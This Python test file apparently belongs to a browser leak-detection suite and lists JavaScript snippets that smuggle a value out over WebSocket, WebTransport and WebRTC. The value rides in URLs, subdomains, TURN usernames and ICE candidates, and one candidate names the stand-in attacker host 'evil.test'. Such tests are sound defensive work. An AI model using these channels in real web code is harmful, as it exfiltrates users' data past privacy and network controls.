"""Channels: WebSocket, WebTransport and WebRTC, from pages, frames and workers, with the names that they look up."""

from __future__ import annotations

from tests.channels.channel import ONLY_THIRD, Channel, script

_ICE = """const p = new RTCPeerConnection({iceServers: [@SERVER@]@MORE@}); p.createDataChannel("x");
  p.setLocalDescription(await p.createOffer())"""


def _ice(name: str, server: str, more: str = "") -> Channel:
    return Channel(f"rtc-{name}", _ICE.replace("@SERVER@", server).replace("@MORE@", more), targets=ONLY_THIRD)


_DIRECT = """const p = new RTCPeerConnection(), q = new RTCPeerConnection(); p.createDataChannel("x");
  await p.setLocalDescription(await p.createOffer()); await q.setRemoteDescription(p.localDescription);
  let sdp = (await q.createAnswer()).sdp.replace(/ice-ufrag:.*/g, "ice-ufrag:" + v);
  await p.setRemoteDescription({type: "answer", sdp});
  await p.addIceCandidate({candidate: "candidate:1 1 @KIND@", sdpMid: "0", usernameFragment: v})"""

CHANNELS = (
    Channel("websocket", 'new WebSocket(`${WS}/sink/ws?d=${v}`)'),
    Channel("websocket-message", 'const s = new WebSocket(`${WS}/sink/ws`); s.onopen = () => s.send(v)'),
    Channel("websocket-protocol", 'new WebSocket(`${WS}/sink/ws`, [v])'),
    Channel("websocket-host", 'new WebSocket(`wss://${v}.${HOST}/sink/ws`)'),
    Channel("websocket-plain", 'new WebSocket(`ws://${HOST}:8080/?d=${v}`)', unseen="mixed content is blocked"),
    Channel("websocket-port", 'new WebSocket(`wss://${v}.${HOST}:8463/`)'),
    Channel("websocket-stream", 'new WebSocketStream(`${WS}/sink/ws?d=${v}`)'),
    Channel("websocket-stream-message", """const s = new WebSocketStream(`${WS}/sink/ws`); const o = await s.opened;
      await o.writable.getWriter().write(v)"""),
    Channel("websocket-frame", 'const w = frame(); new w.WebSocket(`${WS}/sink/ws?d=${v}`)'),
    Channel("websocket-sandbox", """add("iframe", {sandbox: "allow-scripts",
      srcdoc: `<script>new WebSocket("${WS}/sink/ws?d=${v}")</scr` + "ipt>"})"""),
    Channel("websocket-worker", 'new Worker(blob(`new WebSocket("${WS}/sink/ws?d=${v}")`))'),
    Channel("websocket-worker-message",
            """new Worker(blob(`const s = new WebSocket("${WS}/sink/ws"); s.onopen = () => s.send("${v}")`))"""),
    Channel("websocket-shared-worker", 'new SharedWorker(blob(`new WebSocket("${WS}/sink/ws?d=${v}")`))'),
    Channel("websocket-served-worker", 'new Worker(at("w.js")).postMessage(v)', files={
        "w.js": script('onmessage = (e) => new WebSocket("@TO@/sink/ws?d=".replace("http", "ws") + e.data)')}),
    Channel("webtransport", 'new WebTransport(`https://${v}.${HOST}:8463/wt`)'),
    Channel("webtransport-worker", 'new Worker(blob(`new WebTransport("https://${v}.${HOST}:8463/wt")`))'),
    Channel("webtransport-hashes", """new WebTransport(`https://${v}.${HOST}:8463/wt`, {serverCertificateHashes:
      [{algorithm: "sha-256", value: new Uint8Array(32)}]})"""),
    _ice("stun-name", '{urls: `stun:${v}.${HOST}:3478`}'),
    _ice("turn-udp", '{urls: `turn:${HOST}:3478?transport=udp`, username: v, credential: "x"}'),
    _ice("turn-tcp", '{urls: `turn:${HOST}:3478?transport=tcp`, username: v, credential: "x"}'),
    _ice("turn-name-udp", '{urls: `turn:${v}.${HOST}:3478?transport=udp`, username: "u", credential: "x"}'),
    _ice("turn-name-tcp", '{urls: `turn:${v}.${HOST}:3478?transport=tcp`, username: "u", credential: "x"}'),
    _ice("turns-name", '{urls: `turns:${v}.${HOST}:443?transport=tcp`, username: "u", credential: "x"}'),
    _ice("turn-relay-only",
            '{urls: `turn:${HOST}:3478`, username: v, credential: "x"}', """, iceTransportPolicy: "relay" """),
    Channel("rtc-direct-udp", _DIRECT.replace("@KIND@", "udp 2113937151 11.77.0.2 3478 typ host"), targets=ONLY_THIRD),
    Channel("rtc-direct-tcp", _DIRECT.replace("@KIND@", "tcp 2113937151 11.77.0.2 3478 typ host tcptype passive"),
            targets=ONLY_THIRD),
    Channel("rtc-direct-name",
            _DIRECT.replace("candidate:1 1 @KIND@", """candidate:1 1 udp 2113937151 ${v}.evil.test 3478 typ host""")
            .replace('"candidate:1', "`candidate:1").replace('typ host"', "typ host`"), targets=ONLY_THIRD),
    Channel("rtc-frame", """const w = frame();
      const p = new w.RTCPeerConnection({iceServers: [{urls: `stun:${v}.${HOST}:3478`}]});"""
            'p.createDataChannel("x"); p.setLocalDescription(await p.createOffer())', targets=ONLY_THIRD),
)
